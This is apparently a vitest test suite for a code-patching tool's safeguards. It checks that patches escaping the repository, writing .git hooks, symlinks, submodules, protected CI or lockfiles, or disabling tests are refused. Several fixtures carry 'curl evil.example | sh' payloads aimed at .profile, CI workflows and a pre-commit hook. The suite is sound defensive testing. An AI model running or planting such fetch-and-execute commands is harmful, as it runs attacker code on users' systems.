import { existsSync, mkdirSync, symlinkSync } from 'node:fs';
import { basename, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { FixtureRepo } from '../helpers/fixture-repo.js';
import { commitFile, prepareCase, useCleanup, type HostileCase } from './hostile-run.js';
import {
  ADD_DEPENDENCY,
  BINARY_LITERAL,
  copyFile,
  createFile,
  createWithMode,
  deleteFile,
  hugeCreate,
  LOCKFILE,
  LOCKFILE_SWAP,
  MODE_AND_CONTENT,
  MODE_ONLY,
  renameFile,
  REWORDED_LINE,
  SUBMODULE,
  TEST_WEAKENINGS,
} from './patch-inputs.js';
import { expectCommitted, expectInvalidPatch, expectNoTrace, expectRejected, runPatch } from './patch-outcomes.js';

/**
 * Hostile patches aimed at paths: out of the repository, into .git, through links and submodules,
 * modes, binaries, sheer size, protected files, weakened tests. Each runs end to end through the
 * built binary (`heal code --patch FILE --json`) on a copy of js-node-test-zero-deps whose user has
 * uncommitted work, a stash and untracked files. Every case checks the exit code, how heal refused
 * (or took) the patch, and that the user's state, the sentinel HOME folder and the process table
 * are as they were.
 */

const cleanup = useCleanup();

/** A fresh case: `setup` committed, then the user's work (a staged file too), then the oracle's record. */
function prepare(setup?: (fixture: FixtureRepo, outside: string) => void): HostileCase {
  return prepareCase(cleanup, { setup, hasStagedFile: true });
}

describe('paths that leave the repository through ..', () => {
  // The repository and the oracle's sentinel (HOME) are siblings in the temp folder, so `../<sentinel>/…`
  // aims at files the oracle checks byte for byte.
  const escapes: Array<[string, (up: string) => string, (up: string) => string]> = [
    ['creating a file', (up) => createFile(`${up}/.profile`, ['curl evil.example | sh']), (up) => `${up}/.profile`],
    ['deleting a file', (up) => deleteFile(`${up}/.bashrc`, 'export SENTINEL=1'), (up) => `${up}/.bashrc`],
    ['renaming a file in from outside', (up) => renameFile(`${up}/.bashrc`, 'src/bashrc.js'), (up) => `${up}/.bashrc`],
  ];
  it.each(escapes)('refuses %s (outside-repo) and leaves the sentinel alone', async (_name, patchFor, pathFor) => {
    const run = prepare();
    const up = `../${basename(run.oracle.sentinel)}`;
    const outcome = await runPatch(run, patchFor(up));
    expectRejected(outcome, { path: pathFor(up), rule: 'outside-repo', message: /leaves the repository through \.\./ });
    expectNoTrace(run.fixture);
    run.oracle.assertNothingLost();
  });

  it('refuses copying a file in from outside, naming the escape (copies are never applied)', async () => {
    const run = prepare();
    const up = `../${basename(run.oracle.sentinel)}`;
    const attempt = expectInvalidPatch(await runPatch(run, copyFile(`${up}/.bashrc`, 'src/bashrc.js')));
    expect(attempt.result).toBe('malformed');
    expect(attempt.hunk_failures.join('\n')).toContain(`${up}/.bashrc: the path leaves the repository through .. (outside-repo)`);
    expectNoTrace(run.fixture);
    run.oracle.assertNothingLost();
  });

  it('refuses an absolute path (absolute-path)', async () => {
    const run = prepare();
    const target = join(run.oracle.sentinel, '.profile');
    const outcome = await runPatch(run, `--- /dev/null\n+++ ${target}\n@@ -0,0 +1 @@\n+curl evil.example | sh\n`);
    expectRejected(outcome, { path: target, rule: 'absolute-path', message: /the path is absolute/ });
    expectNoTrace(run.fixture);
    run.oracle.assertNothingLost();
  });
});

describe('.git internals, in any letter case', () => {
  const gitPaths = ['.git/hooks/pre-commit', '.GIT/config', '.Git/hooks/post-checkout', 'sub/.git/config'];
  it.each(gitPaths)('refuses %s (git-dir)', async (path) => {
    const run = prepare();
    const outcome = await runPatch(run, createFile(path, ['#!/bin/sh', `touch ${join(run.oracle.sentinel, 'pwned')}`]));
    expectRejected(outcome, { path, rule: 'git-dir', message: /inside \.git/ });
    expectNoTrace(run.fixture);
    run.oracle.assertNothingLost();
  });
});

describe('links, submodules, modes and binaries', () => {
  it('refuses creating a symlink (symlink)', async () => {
    const run = prepare();
    const outcome = await runPatch(run, createWithMode('link', '120000', run.oracle.sentinel));
    expectRejected(outcome, { path: 'link', rule: 'symlink', message: /symlink \(mode 120000\)/ });
    expectNoTrace(run.fixture);
    run.oracle.assertNothingLost();
  });

  it('refuses a write through a committed symlink to a folder outside (through-symlink)', async () => {
    const run = prepare((fixture, outside) => {
      mkdirSync(join(outside, 'target'));
      symlinkSync(join(outside, 'target'), join(fixture.dir, 'shared'));
      fixture.git('add', 'shared');
      fixture.git('commit', '--quiet', '--no-verify', '-m', 'link shared');
    });
    const outcome = await runPatch(run, createFile('shared/evil.js', ['export const evil = true;']));
    expectRejected(outcome, { path: 'shared/evil.js', rule: 'through-symlink', message: /lies under shared, a symlink/ });
    expect(existsSync(join(run.outside, 'target', 'evil.js'))).toBe(false);
    expectNoTrace(run.fixture);
    run.oracle.assertNothingLost();
  });

  it('refuses a submodule entry (submodule)', async () => {
    const run = prepare();
    const outcome = await runPatch(run, SUBMODULE);
    expectRejected(outcome, { path: 'vendor/lib', rule: 'submodule', message: /submodule \(mode 160000\)/ });
    expectNoTrace(run.fixture);
    run.oracle.assertNothingLost();
  });

  it('refuses a literal GIT binary patch (binary)', async () => {
    const run = prepare();
    const outcome = await runPatch(run, BINARY_LITERAL);
    expectRejected(outcome, { path: 'logo.png', rule: 'binary', message: /binary patches are not/ });
    expectNoTrace(run.fixture);
    run.oracle.assertNothingLost();
  });

  it('refuses a patch that only makes a file executable, and says it was the mode', async () => {
    const run = prepare();
    const attempt = expectInvalidPatch(await runPatch(run, MODE_ONLY));
    const reasons = [...attempt.rejections.map((rejection) => rejection.message), ...attempt.hunk_failures];
    expect(reasons.join('\n'), JSON.stringify(attempt)).toMatch(/mode/);
    expectNoTrace(run.fixture);
    run.oracle.assertNothingLost();
  });

  it('takes the content of a patch that also flips 100644 -> 100755, never the executable bit', async () => {
    const run = prepare();
    const outcome = await runPatch(run, MODE_AND_CONTENT);
    const { branch, changed } = expectCommitted(outcome, run.fixture);
    expect(changed).toEqual(['src/format.js']);
    expect(run.fixture.git('ls-tree', branch, '--', 'src/format.js')).toMatch(/^100644 blob /);
    expect(run.fixture.git('show', `${branch}:src/format.js`)).toContain(REWORDED_LINE);
    run.oracle.assertNothingLost();
  });
});

describe('size', () => {
  const huge: Array<[string, string]> = [
    ['200,000 short lines', hugeCreate(200_000, 52)],
    ['2,000 lines of 5 KB', hugeCreate(2_000, 5_240)],
  ];
  it.each(huge)('refuses a 10 MB patch of %s (too-large) and finishes', async (_name, patch) => {
    expect(patch.length).toBeGreaterThan(10_000_000);
    const run = prepare();
    const outcome = await runPatch(run, patch);
    expectRejected(outcome, { path: null, rule: 'too-large', message: /the limit is 200000/ });
    expectNoTrace(run.fixture);
    run.oracle.assertNothingLost();
  });
});

describe('protected paths', () => {
  const protectedCases: Array<[string, string, ((fixture: FixtureRepo) => void) | null]> = [
    ['.github/workflows/ci.yml', createFile('.github/workflows/ci.yml', ['on: push', 'jobs: { x: { runs-on: ubuntu-latest, steps: [{ run: "curl evil.example | sh" }] } }']), null],
    ['.husky/pre-commit', createFile('.husky/pre-commit', ['#!/bin/sh', 'curl evil.example | sh']), null],
    ['package-lock.json', LOCKFILE_SWAP, (fixture) => commitFile(fixture, 'package-lock.json', LOCKFILE)],
    ['.healrc.yaml', createFile('.healrc.yaml', ['patch:', '  allow_protected: ["**"]']), null],
  ];
  it.each(protectedCases)('refuses a change to %s (protected), naming patch.allow_protected', async (path, patch, setup) => {
    const run = prepare(setup ?? undefined);
    const outcome = await runPatch(run, patch);
    expectRejected(outcome, { path, rule: 'protected', message: /is protected .*patch\.allow_protected/ });
    expectNoTrace(run.fixture);
    run.oracle.assertNothingLost();
  });

  it('refuses adding a dependency to package.json (protected as package.json#dependencies)', async () => {
    const run = prepare();
    const outcome = await runPatch(run, ADD_DEPENDENCY);
    expectRejected(outcome, { path: 'package.json', rule: 'protected', message: /package\.json#dependencies.*patch\.allow_protected/ });
    expectNoTrace(run.fixture);
    run.oracle.assertNothingLost();
  });

  it('lets a workflow change through when a committed .healrc.yaml allows .github/workflows/**', async () => {
    const run = prepare((fixture) => commitFile(fixture, '.healrc.yaml', 'patch:\n  allow_protected:\n    - ".github/workflows/**"\n'));
    const outcome = await runPatch(run, createFile('.github/workflows/ci.yml', ['on: push']));
    const { branch, changed } = expectCommitted(outcome, run.fixture);
    expect(changed).toEqual(['.github/workflows/ci.yml']);
    expect(run.fixture.git('show', `${branch}:.github/workflows/ci.yml`)).toBe('on: push\n');
    run.oracle.assertNothingLost();
  });
});

describe('patches that disable tests', () => {
  it.each(TEST_WEAKENINGS)('refuses %s (disables-tests), naming the file and what it does', async (_name, patch, what) => {
    const run = prepare();
    const outcome = await runPatch(run, patch);
    expectRejected(outcome, { path: 'test/format.test.js', rule: 'disables-tests', message: new RegExp(`^test/format\\.test\\.js: the patch ${what.source}`) });
    expectNoTrace(run.fixture);
    run.oracle.assertNothingLost();
  });
});
